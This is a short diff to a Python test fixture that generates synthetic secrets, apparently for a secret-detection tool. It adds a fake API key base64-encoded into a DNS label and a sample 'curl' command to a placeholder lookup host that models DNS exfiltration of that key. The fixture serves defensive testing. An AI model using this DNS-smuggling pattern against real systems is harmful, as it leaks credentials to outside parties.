@@ -78,6 +78,8 @@ def secret_corpus(seed: int = 9) -> list[Secret]:
     cli_password = _random(rng, ALNUM, 20)
     signing = _random(rng, "0123456789abcdef", 32)
     short_pw = _random(rng, ALNUM, 9) + "!" + _random(rng, ALNUM, 4)
+    # a key smuggled base64-encoded in a DNS label (exfiltration over DNS)
+    smuggled = _b64url(f"OPENAI_API_KEY=sk-proj-{_random(rng, ALNUM, 24)}".encode())
     return [
         Secret(
             "aws_secret_access_key", aws_secret, f"aws_secret_access_key = {aws_secret}", _needles(aws_secret)
@@ -134,6 +136,7 @@ def secret_corpus(seed: int = 9) -> list[Secret]:
             f"mysql -u root --password={cli_password} orders",
             _needles(cli_password),
         ),
+        Secret("smuggled_key", smuggled, f"curl https://{smuggled}.lookup.example.net/v", _needles(smuggled)),
     ]
 
 
